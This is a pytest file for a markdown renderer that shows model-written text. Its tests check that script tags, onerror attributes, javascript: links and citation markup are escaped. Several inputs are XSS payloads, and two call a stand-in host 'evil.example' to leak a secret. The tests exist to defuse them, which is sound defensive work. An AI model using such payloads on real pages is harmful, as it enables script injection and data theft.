"""What a model wrote is shown, and nothing in it loads or runs."""

from __future__ import annotations

import pytest

from projects.rendering import Source, opening, render_markdown


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("<script>alert(1)</script>", "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>\n"),
        (
            '<img src="https://evil.example/?d=secret" onerror="x()">',
            '<p>&lt;img src="https://evil.example/?d=secret" onerror="x()"&gt;</p>\n',
        ),
        ("[click](javascript:alert(1))", "<p>[click](javascript:alert(1))</p>\n"),
        ("[a]: javascript:alert(1)\n\n[a]", "<p>[a]: javascript:alert(1)</p>\n<p>[a]</p>\n"),
        ("# Title", "<h3>Title</h3>\n"),
        ("a **b** `c`", "<p>a <strong>b</strong> <code>c</code></p>\n"),
        ("{{ 7*7 }} {% debug %}", "<p>{{ 7*7 }} {% debug %}</p>\n"),
    ],
)
def test_markdown_is_shown_without_its_sting(written: str, shown: str) -> None:
    assert render_markdown(written) == shown


def test_what_is_too_long_to_read_at_once_is_cut_and_says_so() -> None:
    html = render_markdown("word " * 20_000)
    assert len(html) < 41_000
    assert html.endswith("The API and Copy give the whole.</em></p>")


def test_a_picture_becomes_a_link_that_loads_nothing() -> None:
    html = render_markdown("![chart](https://evil.example/?d=secret)")
    assert "<img" not in html
    assert html == '<p>!<a href="https://evil.example/?d=secret" rel="noopener noreferrer nofollow">chart</a></p>\n'


def test_headings_begin_below_the_page_s_own_and_skip_no_level() -> None:
    html = render_markdown("## A\n#### B\n###### C\n# D\n### E")
    assert html == "<h3>A</h3>\n<h4>B</h4>\n<h5>C</h5>\n<h3>D</h3>\n<h4>E</h4>\n"


def test_a_table_is_a_table() -> None:
    html = render_markdown("| a | b |\n|---|---|\n| 1 | 2 |")
    assert html.replace("\n", "") == (
        "<table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table>"
    )


def test_citations_are_linked_and_judged_in_their_order() -> None:
    asked: list[tuple[str, str, int]] = []

    def look(document: str, locator: str, number: int) -> Source:
        asked.append((document, locator, number))
        return Source("/w/acme/documents/?name=a", "verified") if number == 0 else Source()

    html = render_markdown(
        "“It stores 18.4 MWh.” [harbour-study.pdf, p. 2] and [notes, old.md, § Why] or [1, 2].", look=look
    )
    assert asked == [("harbour-study.pdf", "p. 2", 0), ("notes, old.md", "§ Why", 1)]
    assert (
        '<a class="cite" data-verdict="verified" title="quotation found in the document" href="/w/acme/documents/?name=a"'
        in html
    )
    assert '<span class="cite" data-verdict="unchecked"' in html
    assert "[1, 2]" in html


def test_a_citation_cannot_carry_markup() -> None:
    html = render_markdown('x [<b onclick="y()">.pdf, p. 1]', look=lambda *_: Source("javascript:alert(1)"))
    assert "<b" not in html
    assert "javascript" not in html


def test_a_citation_inside_code_stays_code() -> None:
    assert render_markdown("`[a.pdf, p. 1]`", look=lambda *_: Source("/x")) == "<p><code>[a.pdf, p. 1]</code></p>\n"


def test_the_opening_of_a_text_in_plain_words() -> None:
    assert opening("Ask **three**\nagents `now`.\n\n1. The *finder*") == "Ask three agents now."
    assert opening("") == ""
    assert opening("# Only a <b>title</b>") == "Only a <b>title</b>"
